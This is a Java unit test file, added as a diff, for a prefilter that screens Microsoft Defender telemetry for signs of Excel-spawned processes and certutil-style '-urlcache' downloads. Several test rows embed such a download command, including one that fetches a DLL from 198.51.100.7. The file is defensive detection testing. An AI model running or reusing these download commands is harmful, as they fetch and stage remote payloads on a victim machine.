@@ -1,0 +1,142 @@
+package dev.bazahunt.telemetry;
+
+import static dev.bazahunt.telemetry.DefenderTelemetrySamples.FILE_ROW;
+import static dev.bazahunt.telemetry.DefenderTelemetrySamples.NETWORK_ROW;
+import static dev.bazahunt.telemetry.DefenderTelemetrySamples.PROCESS_ROW;
+import static dev.bazahunt.telemetry.DefenderTelemetrySamples.batch;
+import static dev.bazahunt.telemetry.DefenderTelemetrySamples.envelope;
+import static dev.bazahunt.telemetry.DefenderTelemetrySamples.withColumn;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.nio.charset.StandardCharsets;
+import org.junit.jupiter.api.Test;
+
+class RawPrefilterTest {
+    /** svchost's OneDrive sync writing a document: nothing in it can matter to the hunt. */
+    static final String BENIGN_ROW = """
+            {"Timestamp":"2021-07-21T09:14:07.1200000Z","DeviceId":"4f1d2a9c7b3e5f60a1b2c3d4e5f60718293a4b5c",\
+            "DeviceName":"fin-lt-0231.northwind.local","ActionType":"FileModified","FileName":"Q3 forecast.docx",\
+            "FolderPath":"C:\\\\Users\\\\mhollis\\\\OneDrive - Northwind\\\\Q3 forecast.docx",\
+            "InitiatingProcessFileName":"OneDrive.exe",\
+            "InitiatingProcessCommandLine":"\\"OneDrive.exe\\" /background","ReportId":20455}""";
+
+    private static boolean mayMatter(String unit) {
+        return RawPrefilter.mayMatter(unit.getBytes(StandardCharsets.UTF_8));
+    }
+
+    @Test
+    void benignRowIsSkipped() {
+        assertThat(mayMatter(BENIGN_ROW)).isFalse();
+        assertThat(mayMatter(envelope("DeviceFileEvents", BENIGN_ROW))).isFalse();
+        assertThat(mayMatter(NETWORK_ROW)).isFalse();
+    }
+
+    @Test
+    void downloadRowIsKept() {
+        assertThat(mayMatter(FILE_ROW)).isTrue();
+    }
+
+    @Test
+    void excelChildIsKeptWhateverTheCase() {
+        assertThat(mayMatter(PROCESS_ROW)).isTrue();
+        assertThat(mayMatter(withColumn(BENIGN_ROW, "InitiatingProcessFileName", "\"ExCeL.eXe\""))).isTrue();
+    }
+
+    @Test
+    void upperCaseUrlcacheIsKept() {
+        assertThat(mayMatter(withColumn(BENIGN_ROW, "InitiatingProcessCommandLine",
+                "\"UPD2.EXE -URLCACHE -SPLIT -F HTTP://198.51.100.7/D.DLL\""))).isTrue();
+    }
+
+    @Test
+    void cryptnetUrlCacheDecoyIsKeptForTheRuleToReject() {
+        String decoy = withColumn(BENIGN_ROW, "FolderPath",
+                "\"C:\\\\Users\\\\k.lee\\\\AppData\\\\LocalLow\\\\Microsoft\\\\CryptnetUrlCache\\\\MetaData\\\\77E1A2B3\"");
+        assertThat(mayMatter(decoy)).isTrue();
+    }
+
+    @Test
+    void aNeedleAnywhereInABatchKeepsTheWholeMessage() {
+        assertThat(mayMatter(batch(envelope("DeviceFileEvents", BENIGN_ROW),
+                envelope("DeviceProcessEvents", PROCESS_ROW)))).isTrue();
+        assertThat(mayMatter(batch(envelope("DeviceFileEvents", BENIGN_ROW),
+                envelope("DeviceNetworkEvents", NETWORK_ROW)))).isFalse();
+    }
+
+    @Test
+    void unicodeEscapeThatSpellsANeedleLetterIsParsed() {
+        assertThat(mayMatter(withColumn(BENIGN_ROW, "InitiatingProcessCommandLine",
+                "\"x.exe -\\u0075rlcache -split -f http://a/b\""))).isTrue();
+        assertThat(mayMatter(withColumn(BENIGN_ROW, "InitiatingProcessFileName", "\"excel\\u002eexe\""))).isTrue();
+    }
+
+    @Test
+    void anyUnicodeEscapeIsParsedEvenIfItSpellsNothingRelevant() {
+        assertThat(mayMatter(withColumn(BENIGN_ROW, "FileName", "\"r\\u00e9sum\\u00e9.docx\""))).isTrue();
+    }
+
+    @Test
+    void escapedSlashIsParsed() {
+        assertThat(mayMatter(withColumn(BENIGN_ROW, "FileOriginUrl", "\"https:\\/\\/contoso.sharepoint.com\\/x\""))).isTrue();
+    }
+
+    @Test
+    void escapedBackslashesBeforeUOrSlashAreNoEscapeOfThem() {
+        // C:\\users and \\/ in JSON are a literal backslash followed by an ordinary 'u' or '/'.
+        assertThat(mayMatter(withColumn(BENIGN_ROW, "FolderPath", "\"C:\\\\users\\\\mhollis\\\\/x\""))).isFalse();
+    }
+
+    @Test
+    void oddBackslashRunBeforeUIsAnEscape() {
+        // \\\u0075 is a literal backslash and then an escaped 'u'.
+        assertThat(mayMatter(withColumn(BENIGN_ROW, "FolderPath", "\"C:\\\\\\u0075sers\""))).isTrue();
+    }
+
+    @Test
+    void truncatedLineIsParsedSoItCanBeDeadLettered() {
+        assertThat(mayMatter(BENIGN_ROW.substring(0, BENIGN_ROW.length() - 20))).isTrue();
+    }
+
+    @Test
+    void nonJsonLineIsParsedSoItCanBeDeadLettered() {
+        assertThat(mayMatter("this is not json at all")).isTrue();
+        assertThat(mayMatter("[" + BENIGN_ROW + "]")).isTrue();
+        assertThat(mayMatter("{")).isTrue();
+        assertThat(mayMatter("")).isTrue();
+    }
+
+    @Test
+    void surroundingWhitespaceAndCrLfDoNotHideTheObject() {
+        assertThat(mayMatter("  " + BENIGN_ROW + "\r\n")).isFalse();
+    }
+
+    @Test
+    void byteOrderMarkIsParsed() {
+        assertThat(mayMatter("\uFEFF" + BENIGN_ROW)).isTrue();
+    }
+
+    @Test
+    void needleCutByTheEndOfTheUnitIsNoNeedle() {
+        byte[] bytes = ("{\"c\":\"x -urlcach\"}").getBytes(StandardCharsets.UTF_8);
+        assertThat(RawPrefilter.mayMatter(bytes)).isFalse();
+    }
+
+    @Test
+    void onlyTheGivenSliceIsSearched() {
+        byte[] bytes = (BENIGN_ROW + "excel.exe").getBytes(StandardCharsets.UTF_8);
+        assertThat(RawPrefilter.mayMatter(bytes, 0, BENIGN_ROW.getBytes(StandardCharsets.UTF_8).length)).isFalse();
+    }
+
+    @Test
+    void needlesAndEscapesAreFoundAtEveryByteAlignment() {
+        // The scan reads eight bytes at a time: a needle may start in one word and end in the next.
+        for (int pad = 0; pad < 17; pad++) {
+            String prefix = "{\"a\":\"" + " ".repeat(pad);
+            assertThat(mayMatter(prefix + "EXCEL.EXE\"}")).as("excel.exe after %d", pad).isTrue();
+            assertThat(mayMatter(prefix + "-UrlCache\"}")).as("urlcache after %d", pad).isTrue();
+            assertThat(mayMatter(prefix + "\\u0041\"}")).as("escape after %d", pad).isTrue();
+            assertThat(mayMatter(prefix + "C:\\\\x\\\\\\u0041\"}")).as("escape after a run, %d", pad).isTrue();
+            assertThat(mayMatter(prefix + "C:\\\\users\\\\excel.ex\"}")).as("near miss after %d", pad).isFalse();
+        }
+    }
+}
